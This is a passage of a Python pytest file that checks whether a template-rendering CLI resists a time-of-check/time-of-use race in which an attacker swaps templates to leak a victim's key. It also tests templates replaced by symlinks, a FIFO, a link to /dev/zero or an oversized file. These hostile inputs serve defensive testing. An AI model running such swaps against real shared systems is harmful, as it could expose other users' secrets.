        with open_journal(create=False) as journal:
            session = journal.load(session_id)
        for _ in range(10_000):  # the attacker is already at work: take the playbook when it loads
            try:
                playbook = load(shared / "base.yaml", templates=False)
                break
            except MeaCulpaError:
                continue
        # Mostly the renderer alone (about a millisecond each: many tries at the window
        # between a check and a read), and now and then the whole `draft`, which also
        # stores what it rendered in the journal.
        outcomes = []
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            if len(outcomes) % 50 == 0:
                outcomes.append(run_cli_here("draft", session_id, "-m", "note"))
                continue
            try:
                outcomes.append((0, render(playbook, session, "note").text, ""))
            except MeaCulpaError as exc:
                outcomes.append((2, "", f"error: {exc}"))
        report.write_text(json.dumps(outcomes), encoding="utf-8")

    wait(as_user(victim, run_the_playbook))  # validated while the folder is as it should be
    swapping = as_user(attacker, swap)
    try:
        wait(as_user(victim, draft_again_and_again))
    finally:
        stop.touch()
        wait(swapping)
    outcomes = json.loads(report.read_text(encoding="utf-8"))
    rendered = [out for code, out, _ in outcomes if code == 0]
    refused = [err for code, _, err in outcomes if code != 0]
    leaked = [o for o in (outcomes) if secret in o[1] + o[2]]
    assert not leaked, f"{len(leaked)} of {len(outcomes)} drafts printed the victim's key"
    stored = b"".join(p.read_bytes() for p in home.glob("journal.sqlite3*"))
    assert secret.encode() not in stored, "the journal keeps the victim's key"
    assert rendered, "no draft rendered at all: the race was not run"
    assert all(out.startswith("The invoice went to the wrong client.") for out in rendered)
    # refused when the playbook is read, when the name is looked up, or when it is
    # opened: one line naming the template, never an internal problem
    assert all("note.j2" in err and "internal problem" not in err for err in refused), sorted(set(refused))


@pytest.mark.parametrize("kind", ["a link inside the folder", "a FIFO", "a link to /dev/zero", "too large"])
def test_draft_opens_a_template_once_and_refuses_what_is_not_a_plain_file(cli: Cli, shared: Path, tmp_path: Path, kind: str):
    """`draft` reads the templates afresh. Whatever note.j2 has become since the run, it is
    opened once without following links, checked on what was opened, and read within a
    bound: never through a link, never waiting on a FIFO, never reading a device."""
    session = start(cli, shared / "base.yaml", tmp_path)
    note = shared / "note.j2"
    note.unlink()
    if kind == "a link inside the folder":
        (shared / "real.j2").write_text("{{ what_happened }}\n", encoding="utf-8")
        note.symlink_to(shared / "real.j2")
        why = "error: template note.j2: refused: is a link; links are not followed here, so copy the file in instead"
    elif kind == "a FIFO":  # the playbook no longer validates: it is said where
        os.mkfifo(note)
        why = f"{shared / 'base.yaml'}:28:15: messages[0].template: no template 'note.j2' beside the playbook or among the built-ins"
    elif kind == "a link to /dev/zero":
        note.symlink_to("/dev/zero")
        why = f"{shared / 'base.yaml'}:28:15: messages[0].template: 'note.j2' is a link that leads outside its folder; copy the file in instead"
    else:
        note.write_text("{{ what_happened }}\n" + "x" * 200_000, encoding="utf-8")
        why = "error: template note.j2: refused: file is too large (200,020 bytes; the limit is 100,000)"
    code, out, err = cli("draft", session, "-m", "note")
    assert (code, out) == (2, "")
    assert err.splitlines()[0] == why
